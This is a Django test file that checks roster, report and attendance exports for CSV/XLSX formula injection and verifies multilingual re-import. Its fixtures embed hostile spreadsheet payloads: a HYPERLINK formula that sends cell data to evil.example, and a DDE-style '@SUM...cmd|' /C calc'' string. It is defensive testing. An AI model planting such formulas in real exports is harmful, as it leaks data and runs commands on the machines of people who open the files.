"""muster/exports.py: no export carries a live formula from user input, and the attendance
sheet re-imports unchanged in every language."""

import csv
import datetime
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from muster import exports
from sessions import exports as session_exports
from sessions import imports
from sessions.models import Attendance
from tests import factories

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"y")'
STARTERS = ("=", "+", "-", "@", "\t", "\r")


def assert_csv_safe(text):
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells, "the export is empty"
    for cell in cells:
        assert not cell.startswith(STARTERS), cell
    return cells


def assert_xlsx_safe(data):
    workbook = load_workbook(io.BytesIO(data))
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(STARTERS), cell.value
                    assert cell.number_format == "@"
                values.append(cell.value)
    return values


def body(response):
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.mark.parametrize("starter", STARTERS)
def test_every_formula_starter_is_quoted_and_comes_back(starter):
    text = f"{starter}SUM(1,2)"
    assert exports.neutralise(text) == "'" + text
    assert exports.unneutralise(exports.neutralise(text)) == text


def test_ordinary_values_are_left_alone():
    assert exports.neutralise("Ada Lee") == "Ada Lee"
    assert exports.neutralise(-5) == -5  # a number cannot be a formula
    assert exports.neutralise(None) is None
    # Only the quote the export added is taken off again.
    assert exports.unneutralise("'tis") == "'tis"
    assert exports.unneutralise("'") == "'"


def test_xlsx_text_cells_are_text_even_when_they_look_like_formulas():
    data = exports.xlsx_bytes([("t", ["=A1"], [[PAYLOAD, 3, "+1"]])])
    values = [v for v in assert_xlsx_safe(data) if v is not None]
    assert values == ["'=A1", "'" + PAYLOAD, 3, "'+1"]


@pytest.fixture
def hostile_session(db):
    """A session whose officer, agency and venue were named by an attacker."""
    s = factories.session(
        venue=PAYLOAD,
        days=[
            (datetime.date(2030, 3, 4), datetime.time(9), datetime.time(17)),
            (datetime.date(2030, 3, 5), datetime.time(9), datetime.time(17)),
        ],
    )
    agency = factories.agency(name="@SUM(1+1)*cmd|' /C calc'!A0")
    officer = factories.officer(agency_obj=agency, first_name=PAYLOAD, last_name="-2+3")
    registration = factories.registration(session_obj=s, officer_obj=officer)
    Attendance.objects.create(
        registration=registration,
        day=s.days.order_by("date").first(),
        status="present",
        method="roll_call",
    )
    return s


@pytest.mark.parametrize("table", ["roster", "attendance"])
def test_session_exports_hold_no_formula(client, hostile_session, table):
    client.force_login(factories.lead())
    base = ["training_sessions:export", hostile_session.reference, table]
    csv_text = body(client.get(reverse(base[0], args=[*base[1:], "csv"]))).decode()
    cells = assert_csv_safe(csv_text)
    assert "'" + PAYLOAD + " -2+3" in cells
    values = assert_xlsx_safe(body(client.get(reverse(base[0], args=[*base[1:], "xlsx"]))))
    assert "'" + PAYLOAD + " -2+3" in values


def test_report_exports_hold_no_formula(client, db):
    trainer = factories.trainer(first_name=PAYLOAD, last_name="x")
    factories.delivered_session(trainer=trainer, host_agency=factories.agency(name="+cmd"))
    client.force_login(factories.lead())
    text = body(client.get("/admin/reports/export/by_trainer.csv", {"year": 2023}))
    cells = assert_csv_safe(text.decode("utf-8-sig"))
    assert "'" + PAYLOAD + " x" in cells
    values = assert_xlsx_safe(body(client.get("/admin/reports/export/all.xlsx", {"year": 2023})))
    assert "'" + PAYLOAD + " x" in values and "'+cmd" in values


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_admin_list_exports_hold_no_formula(client, hostile_session, fmt):
    """Wagtail's SpreadsheetExportMixin is patched once (reports/apps.py) for every admin list."""
    client.force_login(factories.lead())
    data = body(client.get("/admin/sessions/", {"export": fmt}))
    cells = assert_csv_safe(data.decode()) if fmt == "csv" else assert_xlsx_safe(data)
    assert "'" + PAYLOAD in cells


def test_session_report_command_writes_through_the_same_rule(db):
    out = io.StringIO()
    call_command("session_report", "--year", "2023", "--format", "csv", stdout=out)
    assert_csv_safe(out.getvalue())


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("language", ["th", "zh-hant", "ko"])
def test_attendance_sheet_round_trips_in_every_language(hostile_session, fmt, language):
    """Exported in Thai (headings translated), read back in English or in another language:
    the same people, names and marks, the quote added against formulas taken off again."""
    with translation.override(language):
        headers, rows = session_exports.attendance_table(hostile_session)
        response = getattr(exports, f"{fmt}_response")(headers, rows, "sheet")
    upload = SimpleUploadedFile(f"sheet.{fmt}", response.content)
    for reader_language in ("en", "th"):
        upload.seek(0)
        with translation.override(reader_language):
            header, body_rows = imports.read_table(upload)
            plan, errors = imports.check_rows(hostile_session, header, body_rows)
        assert errors == []
        (entry,) = plan
        assert entry["first_name"] == '=HYPERLINK("http://evil.example/?x="&A1,"y")'
        assert entry["last_name"] == "-2+3"
        assert entry["marks"] == {"2030-03-04": "present"}
